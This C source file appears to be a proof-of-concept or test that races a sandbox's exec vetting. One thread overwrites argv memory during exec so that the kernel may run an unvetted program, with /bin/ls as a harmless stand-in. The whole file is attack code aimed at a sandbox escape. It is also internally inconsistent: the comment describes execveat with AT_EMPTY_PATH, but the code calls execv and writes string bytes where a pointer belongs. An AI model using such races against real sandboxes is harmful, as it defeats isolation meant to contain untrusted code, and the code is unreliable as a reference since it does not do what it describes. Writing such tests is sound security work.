/* Races the sentry's exec rewrite: execveat(fd, "", AT_EMPTY_PATH) names
 * its "" by a NUL byte of the caller's (argv's NULL pointer). A second
 * thread keeps writing "/bin/ls" over that pointer, so the kernel may read
 * a path the sentry never resolved. Prints what ran: the vetted program
 * exits 0 silently; /bin/ls would list the cwd (the test puts PWNED there).
 * Usage: exec_race TRIES */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char *args[2] = {"true", NULL};

static void *flip(void *unused)
{
    (void)unused;
    uint64_t evil;
    memcpy(&evil, "/bin/ls", 8);
    volatile uint64_t *slot = (volatile uint64_t *)&args[1];
    for (;;) {
        *slot = evil;
        *slot = 0;
    }
    return NULL;
}

int main(int argc, char **argv)
{
    int tries = argc > 1 ? atoi(argv[1]) : 100;
    int vetted = 0, killed = 0, other = 0;
    for (int i = 0; i < tries; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            pthread_t t;
            pthread_create(&t, NULL, flip, NULL);
            for (int j = 0; j < 100; j++)   /* EFAULT when argv reads the flipped pointer */
                execv("/bin/true", args);
            _exit(3);
        }
        int status;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
            vetted++;
        else if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
            killed++;
        else
            other++;
    }
    printf("vetted-or-ls %d killed %d other %d\n", vetted, killed, other);
    return 0;
}
